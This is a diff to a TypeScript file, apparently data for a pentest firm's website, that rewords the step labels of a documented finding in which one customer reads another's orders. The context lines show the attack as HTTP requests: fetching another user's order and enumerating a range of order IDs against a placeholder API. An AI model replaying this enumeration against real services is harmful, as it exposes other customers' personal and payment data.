@@ -3,7 +3,7 @@ import type { AttackPath } from './attack-path.ts';
 /** The finding of the home page's evidence band and of the article on regression tests, from its first request on. */
 export const homePath: AttackPath = {
   id: 'IL-2026-041',
-  title: 'One customer reads the orders of another',
+  title: 'One customer can read another’s orders',
   vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:N/VC:H/VI:N/VA:N/SC:N/SI:N/SA:N',
   reported: '2026-03-18',
   retested: '2026-03-18',
@@ -18,7 +18,7 @@ export const homePath: AttackPath = {
       label: 'internet',
       glyph: 'globe',
       lane: 1,
-      name: 'Sign up like anyone',
+      name: 'Sign up like anyone else',
       lines: [
         'POST /v2/signup HTTP/2',
         'host: api.orders.example',
@@ -44,7 +44,7 @@ export const homePath: AttackPath = {
       label: '/v2/orders/88214',
       glyph: 'document',
       lane: 1,
-      name: 'Ask for the number before it',
+      name: 'Request the order before it',
       lines: [
         'GET /v2/orders/{-88214-} HTTP/2 {#1}',
         'authorization: Bearer <user-b>',
@@ -52,7 +52,7 @@ export const homePath: AttackPath = {
         'HTTP/2 200',
         '{ "id": 88214, "owner": {+"user-a"+}, "card": {+"**** 4242"+} } {#2}',
       ],
-      notes: ['not ours', 'name and card of a stranger'],
+      notes: ['not ours', 'a stranger’s name and card'],
       after: [
         'GET /v2/orders/{-88214-} HTTP/2',
         'authorization: Bearer <user-b>',
@@ -65,13 +65,13 @@ export const homePath: AttackPath = {
       label: 'customer data',
       glyph: 'users',
       lane: 2,
-      name: 'Count through the rest',
+      name: 'Try the rest in sequence',
       lines: [
         'GET /v2/orders/{-[88000-88213]-} HTTP/2',
         'authorization: Bearer <user-b>',
         '',
         'HTTP/2 200   {+214 of 214 orders+}',
-        'stopped here, as the rules of engagement say',
+        'stopped here, per the rules of engagement',
       ],
       after: [
         'GET /v2/orders/{-[88000-88213]-} HTTP/2',
